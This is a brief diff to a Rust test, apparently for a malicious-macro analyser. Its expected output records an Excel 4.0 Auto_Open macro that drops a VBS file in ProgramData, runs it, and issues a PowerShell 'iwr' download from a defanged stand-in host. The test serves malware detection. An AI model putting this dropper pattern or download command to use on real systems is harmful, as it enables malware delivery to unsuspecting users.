@@ -296,7 +296,7 @@ fn a_script_written_line_by_line() {
             Write Macro1:1 FOPEN(C:\ProgramData\a.vbs) [Auto_Open]
             Process Macro1:5 EXEC(explorer.exe C:\ProgramData\a.vbs) [Auto_Open]
             command Macro1!R5C1 Other explorer.exe C:\ProgramData\a.vbs
-            command Macro1!R1C1 PowerShell x.Run "powershell -c iwr hxxp://script[.]example/q", 0
+            command Macro1!R1C1 PowerShell powershell -c iwr hxxp://script[.]example/q
               hxxp://script[.]example/q
         "#]],
     );
